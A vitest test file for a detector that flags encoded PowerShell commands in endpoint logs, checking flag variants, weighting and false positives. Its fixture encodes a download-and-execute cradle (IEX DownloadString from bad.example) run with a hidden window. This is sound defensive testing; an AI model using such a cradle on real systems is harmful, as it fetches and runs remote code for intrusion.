import { describe, expect, it } from 'vitest';
import { encodedCommand } from '../../../../lib/signals/endpoint/encoded-command.ts';
import { foundIn, silentIn } from '../event-run.ts';

const encoded = (command: string) => Buffer.from(command, 'utf16le').toString('base64');
const fetches = encoded("IEX (New-Object Net.WebClient).DownloadString('http://bad.example/a.ps1')");

describe('an encoded command', () => {
  it('is seen in every form of the flag, and says what it holds', () => {
    for (const flag of ['-enc', '-e', '-ec', '-EncodedCommand', '/enc', '–enco'])
      expect(foundIn(encodedCommand, { CommandLine: `powershell.exe -nop ${flag} ${fetches}` }).detail).toContain(
        'bad.example',
      );
    foundIn(encodedCommand, { process: { name: 'pwsh.exe', command_line: `-NoP -enc ${fetches}` } });
    foundIn(encodedCommand, `Nov 20 10:11:12 ws4 sysmon: CommandLine: powershell -w hidden -enc ${fetches}`);
  });
  it('weighs most where it fetches code or hides its window', () => {
    const loud = foundIn(encodedCommand, { CommandLine: `powershell -enc ${fetches}` });
    const hidden = foundIn(encodedCommand, { CommandLine: `powershell -w hidden -enc ${encoded('Get-Date')}` });
    const quiet = foundIn(encodedCommand, { CommandLine: `powershell -enc ${encoded('Get-Service -Name ccmexec')}` });
    expect(hidden.weight).toBe(loud.weight);
    expect(quiet.weight).toBeLessThan(loud.weight / 2);
  });
  it('is not an execution policy, an encoding, another program or base64 of anything else', () => {
    silentIn(encodedCommand, { CommandLine: 'powershell.exe -ep bypass -File C:\\Scripts\\inventory.ps1' });
    silentIn(encodedCommand, { CommandLine: 'powershell.exe -ExecutionPolicy RemoteSigned -Command Get-Date' });
    silentIn(encodedCommand, { CommandLine: 'powershell.exe Get-Content a.txt -Encoding ascii' });
    silentIn(encodedCommand, { CommandLine: `grep -e ${fetches} list.txt` });
    silentIn(encodedCommand, { CommandLine: 'powershell.exe -enc AAECAwQFBgcICQoL' });
  });
});
